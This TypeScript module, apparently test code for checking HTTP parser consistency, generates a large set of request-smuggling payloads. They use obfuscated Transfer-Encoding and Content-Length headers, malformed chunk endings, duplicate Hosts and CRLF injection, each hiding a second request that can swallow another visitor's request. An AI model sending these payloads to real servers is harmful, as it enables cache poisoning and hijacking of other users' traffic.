/** Requests that two parsers may cut differently (RELIABILITY.md H38 to H53, A15): each hides a second one. */

export interface Attack {
  name: string;
  bytes: string;
  /** The hidden request is an honest second one to every parser, so its answer on this connection is right. */
  pipelined?: boolean;
}

const END = "\r\n\r\n";

/** The hidden request: whole, or one that swallows what the next visitor sends as a header of its own. */
const hidden = (host: string): Record<string, string> => ({
  whole: `GET /poison HTTP/1.1\r\nHost: ${host}${END}`,
  open: `GET /poison HTTP/1.1\r\nHost: ${host}\r\nX-Swallowed: `,
});

const TRANSFER_ENCODINGS = [
  "Transfer-Encoding: chunked",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding:chunked",
  "transfer-encoding: CHUNKED",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: identity",
  "Transfer-Encoding: chunked, chunked",
  "Transfer-Encoding: gzip, chunked",
  "Transfer-Encoding: \x0bchunked",
  "Transfer-Encoding: chunked\x0b",
  "Transfer-Encoding: chunked\x00",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
  "X: y\r\n Transfer-Encoding: chunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "Transfer_Encoding: chunked",
  "Transfer-Encoding\x00: chunked",
  "Connection: close, Transfer-Encoding\r\nTransfer-Encoding: chunked",
];

const lengths = (n: number): string[] => [
  `Content-Length: 0\r\nContent-Length: ${n}`,
  `Content-Length: ${n}\r\nContent-Length: 0`,
  `Content-Length: 0, ${n}`,
  `Content-Length: +${n}`,
  `Content-Length: 0x${n.toString(16)}`,
  `Content-Length: -${n}`,
  `Content-Length: ${n}.0`,
  `Content-Length: ${n};`,
  `Content-Length: `,
  `Content-Length : ${n}`,
  `Content-Length:\x0b${n}`,
  `Content_Length: ${n}`,
  `X: y\nContent-Length: ${n}`,
  `X: y\r\n Content-Length: ${n}`,
  `Content-Length\x00: ${n}`,
  `Content-Length: 1844674407370955161${6 + n}`,
  `Connection: close, Content-Length\r\nContent-Length: ${n}`,
];

const CHUNKED_ENDS = [
  "0x0\r\n\r\n",
  "-0\r\n\r\n",
  "+0\r\n\r\n",
  " 0\r\n\r\n",
  "0 \r\n\r\n",
  "0\n\n",
  "0\r\n\n",
  "0;a\nb\r\n\r\n",
  '0;a="\r\n\r\n"\r\n\r\n',
  "00000000000000000000\r\n\r\n",
  "10000000000000000\r\n\r\n",
  "3\r\nabcd0\r\n\r\n",
  "3\nabc\n0\n\n",
  "3\r\nabc0\r\n\r\n",
  "0\r\nContent-Length: 5\r\n\r\n",
  "0\r\nHost: other\r\n\r\n",
  "0\r\n",
  "g\r\n\r\n",
  "\r\n0\r\n\r\n",
];

export function attacks(host: string, victim: string): Attack[] {
  const found: Attack[] = [];
  const post = (headers: string) => `POST /who HTTP/1.1\r\nHost: ${host}\r\n${headers}${END}`;
  for (const [kind, inner] of Object.entries(hidden(host))) {
    const chunk = `${inner.length.toString(16)}\r\n${inner}\r\n0${END}`;
    for (const header of TRANSFER_ENCODINGS) {
      const name = `${kind}, ${JSON.stringify(header)}`;
      found.push(
        {
          name: `${name}, length counts all`,
          bytes: post(`Content-Length: ${5 + inner.length}\r\n${header}`) + `0${END}${inner}`,
        },
        { name: `${name}, length counts less`, bytes: post(`Content-Length: 4\r\n${header}`) + chunk },
        { name: `${name}, no length`, bytes: post(header) + chunk, pipelined: true },
      );
    }
    for (const header of lengths(inner.length)) {
      found.push({ name: `${kind}, ${JSON.stringify(header)}`, bytes: post(header) + inner, pipelined: true });
    }
    for (const end of CHUNKED_ENDS) {
      const bytes = post("Transfer-Encoding: chunked") + end + inner;
      found.push({ name: `${kind}, chunks ${JSON.stringify(end)}`, bytes, pipelined: true });
    }
    for (const method of ["GET", "HEAD", "OPTIONS", "DELETE", "TRACE"]) {
      const line = `${method} /who HTTP/1.1\r\nHost: ${host}\r\n`;
      found.push(
        { name: `${kind}, a body on ${method}`, bytes: `${line}Content-Length: ${inner.length}${END}${inner}` },
        { name: `${kind}, chunks on ${method}`, bytes: `${line}Transfer-Encoding: chunked${END}${chunk}` },
      );
    }
    const body = `Content-Length: ${inner.length}`;
    found.push(
      { name: `${kind}, Expect`, bytes: post(`Expect: 100-continue\r\n${body}`) + inner },
      { name: `${kind}, Expect and something else`, bytes: post(`Expect: x 100-continue\r\n${body}`) + inner },
      { name: `${kind}, an upgrade`, bytes: post(`Connection: upgrade\r\nUpgrade: websocket\r\n${body}`) + inner },
      {
        name: `${kind}, an upgrade to h2c`,
        bytes:
          post(`Connection: upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n${body}`) + inner,
      },
      {
        name: `${kind}, HTTP/1.0 with chunks`,
        bytes: `POST /who HTTP/1.0\r\nHost: ${host}\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked${END}0${END}${inner}`,
        pipelined: true,
      },
      { name: `${kind}, HTTP/0.9`, bytes: `GET /who\r\n${inner}`, pipelined: true },
      {
        name: `${kind}, two Hosts`,
        bytes: `GET /who HTTP/1.1\r\nHost: ${host}\r\nHost: ${victim}${END}${inner}`,
        pipelined: true,
      },
      {
        name: `${kind}, another's address as target`,
        bytes: `GET http://${victim}/who HTTP/1.1\r\nHost: ${host}${END}${inner}`,
        pipelined: true,
      },
      { name: `${kind}, line feeds alone`, bytes: `GET /who HTTP/1.1\nHost: ${host}\n\n${inner}`, pipelined: true },
      {
        name: `${kind}, a line end in the path`,
        bytes: `GET /who%0d%0aHost:%20${victim} HTTP/1.1\r\nHost: ${host}${END}${inner}`,
        pipelined: true,
      },
      {
        name: `${kind}, two honest requests`,
        bytes: `GET /who HTTP/1.1\r\nHost: ${host}${END}${inner}`,
        pipelined: true,
      },
    );
  }
  return found;
}
